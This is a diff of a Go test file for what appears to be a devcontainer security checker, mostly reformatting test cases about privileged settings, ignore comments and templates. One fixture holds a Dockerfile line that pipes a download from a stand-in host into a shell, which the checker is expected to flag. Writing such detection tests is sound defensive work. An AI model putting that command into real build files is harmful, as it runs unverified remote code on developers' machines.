@@ -38,13 +38,16 @@ func TestAttackATemplateHidesWhatItOpens(t *testing.T) {
 			devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
 				".devcontainer/Dockerfile": "FROM example.com/base:${templateOption:v}\nRUN curl http://x.example/a | sh\n"},
 			".devcontainer/Dockerfile:2:5 SBX705"},
-		"excused": {"", devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + ",\n// sbx-ignore SBX402: needs it\n\"privileged\": true}"}, ""},
+		"excused": {"",
+			devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + ",\n// sbx-ignore SBX402: needs it\n\"privileged\": true}"}, ""},
 		"excused for nothing": {"", devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + "\n// sbx-ignore SBX402: needs it\n}"},
 			".devcontainer/devcontainer.json:2:1 SBX108"},
 		"a file of its own folder": {"", devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}}`},
 			".devcontainer/devcontainer.json:1:26 SBX311"},
-		"a file of the project": {"", devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + `, "postCreateCommand": "bash scripts/setup.sh"}`}, ""},
-		"a Dockerfile of the project": {"", devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "../Dockerfile", "context": ".."}}`},
+		"a file of the project": {"",
+			devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + `, "postCreateCommand": "bash scripts/setup.sh"}`}, ""},
+		"a Dockerfile of the project": {"",
+			devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "../Dockerfile", "context": ".."}}`},
 			""},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -76,7 +79,9 @@ func TestAttackATemplateHidesWhatItOpens(t *testing.T) {
 // Hundreds of values are judged to a bound, and one large value ends a file.
 func TestTemplateWithManyChoices(t *testing.T) {
 	values := strings.Repeat(`"`+strings.Repeat("x", 2000)+`",`, 2000)
-	judge(t, devcontainer.Memory{"app/devcontainer-template.json": `{"id": "app", "version": "1.0.0", "name": "App", "options": {"v": {"type": "string",
+	judge(t,
+		devcontainer.Memory{
+			"app/devcontainer-template.json": `{"id": "app", "version": "1.0.0", "name": "App", "options": {"v": {"type": "string",
 		"proposals": [` + strings.TrimSuffix(values, ",") + `], "default": "1"}}}`,
-		"app/.devcontainer/devcontainer.json": `{"image": "a:` + strings.Repeat("${templateOption:v}", 1000) + `"}`})
+			"app/.devcontainer/devcontainer.json": `{"image": "a:` + strings.Repeat("${templateOption:v}", 1000) + `"}`})
 }
